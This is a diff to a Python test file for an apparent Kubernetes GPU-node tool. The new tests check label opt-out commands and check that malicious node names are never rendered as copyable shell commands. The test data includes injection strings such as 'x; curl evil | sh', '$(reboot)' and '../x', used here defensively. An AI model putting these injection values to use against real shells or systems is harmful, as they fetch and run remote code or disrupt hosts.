@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import re
 from typing import Any
+from urllib.parse import quote
 
 import msgspec
 import pytest
@@ -140,6 +141,26 @@ def test_of_a_node_in_service_only_what_works_is_offered(
     of: PageState, commands: list[str]
 ) -> None:
     assert [act.command for act in api_node(of, "b").acts] == commands
+
+
+@pytest.mark.parametrize(("asked_back", "offered"), [(False, 1), (True, 0)])
+def test_a_session_that_waits_for_a_label_offers_to_take_it_off(
+    asked_back: bool, offered: int
+) -> None:
+    there = world(incident(), asked_back=asked_back)
+    there.snapshot.nodes["b"].labels["gpuward.io/opt-out"] = "true"
+    commands = [act.command for act in api_node(there, "b").acts]
+    assert commands.count("kubectl label node b gpuward.io/opt-out-") == offered
+
+
+@pytest.mark.parametrize("bad", ["x; curl evil | sh", "$(reboot)", "../x", "-o", ""])
+def test_of_what_no_node_can_be_called_there_is_nothing_to_copy(bad: str) -> None:
+    """Whoever may write a session names any node in it, and a click puts it into a shell."""
+    there = session("b-1", bad, "NodeGone")
+    for address in ("/sessions/b-1", f"/nodes/{quote(bad, safe='')}" if bad else "/history"):
+        said = render(document_of(state([], [there]), address, {}))
+        assert f"gpuward why {bad}" not in said
+        assert "code class=copy" not in said.replace('"', "")
 
 
 @pytest.mark.parametrize("phase", ["Released", "NodeGone"])
